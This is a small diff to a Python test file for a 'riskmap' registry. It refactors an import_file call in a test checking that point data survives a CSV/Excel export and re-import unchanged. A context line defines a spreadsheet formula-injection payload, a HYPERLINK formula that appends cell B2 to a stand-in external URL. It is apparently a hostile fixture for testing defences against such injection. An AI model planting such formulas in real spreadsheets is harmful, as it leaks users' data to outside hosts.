@@ -8,7 +8,7 @@ import csv
 import openpyxl
 import pytest
 
-from riskmap.registry import Project, export_points
+from riskmap.registry import Project, export_points, import_file
 from riskmap.spreadsheet import csv_text, csv_untext
 
 LINK = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
@@ -62,7 +62,7 @@ def test_round_trip_is_lossless(tmp_path, hostile, communities, fmt):
     """Export then import into a fresh project gives back the very same texts."""
     out = export_points(hostile, tmp_path / f"台账.{fmt}", fmt)
     fresh = Project.create(tmp_path / "copy.gpkg", communities)
-    report = fresh.import_file(out, "wgs84", user="copy")
+    report = import_file(fresh, out, "wgs84", user="copy")
     assert (report.imported, report.rejected) == (1, [])
     again = fresh.points().iloc[0]
     original = hostile.points().iloc[0]
